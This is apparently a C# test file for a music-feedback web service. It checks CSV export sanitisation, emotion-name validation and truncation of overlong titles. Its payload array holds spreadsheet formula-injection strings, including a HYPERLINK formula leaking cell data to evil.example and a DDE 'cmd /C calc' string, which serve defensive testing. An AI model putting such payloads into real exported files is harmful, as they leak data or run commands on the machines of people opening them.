using System.Net;
using System.Text;

namespace Circumplex.Web.Tests;

/// <summary>Feedback exports that a spreadsheet opens safely, and inputs held to what they may be.</summary>
public class SafeExportTests
{
    private static readonly (string Id, string Title, string Artist)[] Payloads =
    [
        ("FFFFFFFFFFFFFFFFFFFFF1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("FFFFFFFFFFFFFFFFFFFFF2", "+1+1", "-2+3"),
        ("FFFFFFFFFFFFFFFFFFFFF3", "=1+1", "\t=tab"),
        ("FFFFFFFFFFFFFFFFFFFFF4", "-1", "Plain artist"),
    ];

    [Fact]
    public async Task An_export_with_formula_payloads_in_titles_and_artists_has_none_left()
    {
        await using var host = await TestServerHost.StartAsync(null, withCatalog: false);
        var csv = new StringBuilder(SyntheticCatalog.Kaggle600kHeader + "\n");
        foreach (var (id, title, artist) in Payloads) csv.AppendLine(SyntheticCatalog.Row(id, title, [artist], 0.5, 0.5));
        await Http.Ok<UploadResponse>(await host.Operator.Post("/api/catalog/upload", Http.Multipart("file", Encoding.UTF8.GetBytes(csv.ToString()), "evil.csv", "text/csv")));
        string votes = string.Join(", ", Payloads.Select(p => $$"""{"songId": "{{p.Id}}", "vote": "up"}"""));
        await Http.Ok<FeedbackResponse>(await host.Client.PostJson("/api/feedback",
            $$"""{"valence": 0, "arousal": 0, "emotion": "Happy", "songs": [{{votes}}]}"""), HttpStatusCode.Created);

        var rows = await FeedbackExport.Read(host.Operator);
        Assert.Equal(Payloads.Length, rows.Count);
        foreach (var row in rows)
            foreach (var (column, cell) in row)
                Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '@' or '\t' or '\r' || (cell.StartsWith('-') && !double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _)),
                    $"{column} holds a formula: {cell}");
        var first = rows.Single(r => r["song_id"] == Payloads[0].Id);
        Assert.Equal("'" + Payloads[0].Title, first["title"]); // kept whole, shown as text
        Assert.Equal("-1", rows.Single(r => r["song_id"] == Payloads[3].Id)["title"]); // a number stays a number
        Assert.All(rows, r => Assert.Equal("happy", r["emotion"]));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("joyful")]
    [InlineData("happy!")]
    public async Task An_emotion_that_is_not_one_of_the_eight_names_is_refused(string emotion)
    {
        await using var host = await TestServerHost.StartAsync(null);
        await Http.Problem(await host.Client.PostJson("/api/feedback", $$$"""{"valence": 0, "arousal": 0, "emotion": "{{{emotion}}}", "survey": {"q1": 3}}"""),
            HttpStatusCode.BadRequest, "emotion must be one of neutral, happy, sad, surprise, fear, disgust, anger, contempt");
    }

    [Fact]
    public async Task An_upload_with_an_overlong_title_is_imported_cut_and_says_so()
    {
        await using var host = await TestServerHost.StartAsync(null, withCatalog: false);
        string csv = SyntheticCatalog.Kaggle600kHeader + "\n" + SyntheticCatalog.Row("GGGGGGGGGGGGGGGGGGGGGG", new string('x', 20_000), ["A"], 0.5, 0.5) + "\n";
        var u = await Http.Ok<UploadResponse>(await host.Operator.Post("/api/catalog/upload", Http.Multipart("file", Encoding.UTF8.GetBytes(csv), "long.csv", "text/csv")));
        Assert.Equal(1, u.SongsImported);
        Assert.Equal(1, u.CutRows);
        Assert.Contains("title cut from 20,000 to 500 characters", Assert.Single(u.FirstCutRows).Reason);
        var song = Assert.Single((await Http.Ok<RecommendResponse>(await host.Client.Get("/api/recommend?valence=0&arousal=0"))).Songs);
        Assert.Equal(500, song.Title.Length);
    }
}
